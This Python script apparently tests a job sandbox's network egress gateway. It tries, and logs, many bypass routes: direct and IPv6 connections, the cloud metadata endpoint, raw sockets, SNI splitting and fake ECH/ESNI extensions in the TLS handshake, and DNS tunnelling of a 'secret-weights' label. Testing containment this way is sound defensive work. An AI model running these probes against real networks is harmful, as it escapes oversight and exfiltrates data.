# What a job can try to get at the network past its gateway. One JSON line for
# each attempt says how it ended.
import errno, json, os, socket, ssl, struct

GATEWAY, PROXY = "10.77.0.1", ("10.77.0.1", 3128)
SERVER, OTHER = "44.1.0.2", "44.1.0.3"
GOOD = "allowed.example.com"


def say(name, f):
    try:
        out = f()
    except socket.timeout:
        out = "silence"
    except OSError as e:
        out = errno.errorcode.get(e.errno, type(e).__name__ + " " + str(e))
    print(json.dumps({"name": name, "out": out}), flush=True)


def proxied(target, method="CONNECT", headers=""):
    s = socket.create_connection(PROXY, 3)
    s.settimeout(5)
    s.sendall(f"{method} {target} HTTP/1.1\r\nHost: {target}\r\n{headers}\r\n".encode())
    head = b""
    while b"\r\n\r\n" not in head:
        b = s.recv(4096)
        if not b:
            break
        head += b
    status = head.split(b"\r\n")[0].decode()
    if " 200 " in status:
        return s, None
    s.close()
    return None, status.split(" ", 1)[1].replace("Egress refused by coffer: ", "")


def asked(target, **k):
    def f():
        s, refused = proxied(target, **k)
        if refused:
            return refused
        s.close()
        return "tunnel"
    return f


def context():
    c = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    c.check_hostname, c.verify_mode = False, ssl.CERT_NONE
    return c


def hello(name):
    """The bytes of a ClientHello for name."""
    i, o = ssl.MemoryBIO(), ssl.MemoryBIO()
    try:
        context().wrap_bio(i, o, server_hostname=name).do_handshake()
    except ssl.SSLWantReadError:
        pass
    return o.read()


def answer(s):
    """What the first record that comes back is."""
    b = s.recv(7)
    if not b:
        return "closed"
    return {22: "reached", 21: "alert %d" % b[-1]}.get(b[0], "bytes")


def raw(data, step=None, target=GOOD + ":443"):
    def f():
        s, refused = proxied(target)
        if refused:
            return refused
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if step:
            for n in range(0, len(data), step):
                s.sendall(data[n:n + step])
        else:
            s.sendall(data)
        return answer(s)
    return f


def records(data, size):
    """The same handshake message, cut into records of size bytes."""
    body = data[5:5 + struct.unpack(">H", data[3:5])[0]]
    return b"".join(b"\x16\x03\x01" + struct.pack(">H", len(body[n:n + size])) + body[n:n + size] for n in range(0, len(body), size))


def extended(data, kind, value):
    """The ClientHello with one more extension at its end."""
    body = bytearray(data[5:])
    at = 4 + 2 + 32
    at += 1 + body[at]
    at += 2 + struct.unpack(">H", body[at:at + 2])[0]
    at += 1 + body[at]
    more = struct.pack(">HH", kind, len(value)) + value
    body[at:at + 2] = struct.pack(">H", struct.unpack(">H", body[at:at + 2])[0] + len(more))
    body += more
    body[1:4] = struct.pack(">I", len(body) - 4)[1:]
    return data[:3] + struct.pack(">H", len(body)) + bytes(body)


def echo():
    s, refused = proxied(GOOD + ":443")
    if refused:
        return refused
    t = context().wrap_socket(s, server_hostname=GOOD)
    t.sendall(b"hello")
    return "reached" if t.recv(5) == b"hello" else "other bytes"


def direct(addr, kind=socket.SOCK_STREAM, family=socket.AF_INET):
    def f():
        s = socket.socket(family, kind)
        s.settimeout(0.4)
        s.connect(addr)
        s.send(b"x" * 32)
        return "answered" if s.recv(1) else "closed"
    return f


def dns(name, qtype=1, server=GATEWAY):
    def f():
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(0.4 if server != GATEWAY else 3)
        q = struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack(">2H", qtype, 1)
        s.sendto(q, (server, 53))
        r = s.recv(1500)
        code, answers = r[3] & 15, struct.unpack(">H", r[6:8])[0]
        return {0: "%d answers" % answers, 2: "SERVFAIL", 5: "REFUSED"}.get(code, "code %d" % code)
    return f


def sock(*a):
    def f():
        socket.socket(*a).close()
        return "a socket"
    return f


def route():
    import fcntl
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    fcntl.ioctl(s, 0x890B, b"\0" * 120)  # SIOCADDRT
    return "a route"


def spend():
    s, refused = proxied("second.example.com:443")
    if refused:
        return refused
    t = context().wrap_socket(s, server_hostname="second.example.com")
    sent = 0
    try:
        while sent < 8 << 20:
            t.sendall(os.urandom(1 << 14))
            sent += 1 << 14
    except OSError:
        return "cut"
    return "all sent"


say("control", echo)
say("control: name", dns(GOOD))
say("direct", direct((SERVER, 443)))
say("direct: IPv6", direct(("2a00:1::2", 443), family=socket.AF_INET6))
say("direct: UDP", direct((SERVER, 443), socket.SOCK_DGRAM))
say("direct: metadata", direct(("169.254.169.254", 443)))
say("raw: packet", sock(socket.AF_PACKET, socket.SOCK_RAW, 0x0300))
say("raw: IP", sock(socket.AF_INET, socket.SOCK_RAW, 255))
say("raw: ICMP", sock(socket.AF_INET, socket.SOCK_RAW, 1))
say("route", route)
say("address", asked(SERVER + ":443"))
say("address: number", asked("738263042:443"))
say("address: IPv6", asked("[2a00:1::2]:443"))
say("unlisted", asked("unlisted.example.com:443"))
say("port", asked(GOOD + ":22"))
say("dot", asked(GOOD + ".:443"))
say("plain", asked("http://" + GOOD + "/", method="GET"))
say("not TLS", raw(b"SSH-2.0-OpenSSH_9.6\r\n"))
say("no name", raw(hello(None)))
say("other name", raw(hello("unlisted.example.com")))
say("split", raw(hello(GOOD), 1))
say("split: records", raw(records(hello(GOOD), 3)))
say("split: other name", raw(hello("unlisted.example.com"), 1))
say("split: records, other name", raw(records(hello("unlisted.example.com"), 3)))
say("ECH", raw(extended(hello(GOOD), 0xFE0D, b"\0" + struct.pack(">HHBH", 1, 1, 7, 32) + os.urandom(32) + struct.pack(">H", 160) + os.urandom(160))))
say("ESNI", raw(extended(hello(GOOD), 0xFFCE, os.urandom(64))))
say("two names", raw(extended(hello(GOOD), 0, b"\0\x17\0\0\x14" + b"unlisted.example.com")))
for name in ("private", "metadata", "loopback", "node", "mixed", "mapped", "ula"):
    say("leads: " + name, asked(name + ".example.com:443"))
say("DNS: tunnel", dns("c2VjcmV0LXdlaWdodHM.tunnel.example.com"))
say("DNS: below a listed name", dns("c2VjcmV0LXdlaWdodHM." + GOOD))
say("DNS: TXT", dns(GOOD, 16))
say("DNS: elsewhere", dns("c2VjcmV0.tunnel.example.com", server=SERVER))
say("gateway: another port", direct((GATEWAY, 22)))
say("gateway: DNS by TCP", direct((GATEWAY, 53)))
say("gateway: through itself", asked(GATEWAY + ":3128"))
say("gateway: by name", asked("localhost:3128"))
say("job: its address", direct(("10.77.0.2", 7000)))
say("job: next address", direct(("10.77.0.6", 7000)))
say("job: through the gateway", asked("10.77.0.2:7000"))
say("budget", spend)
say("budget: again", asked("second.example.com:443"))
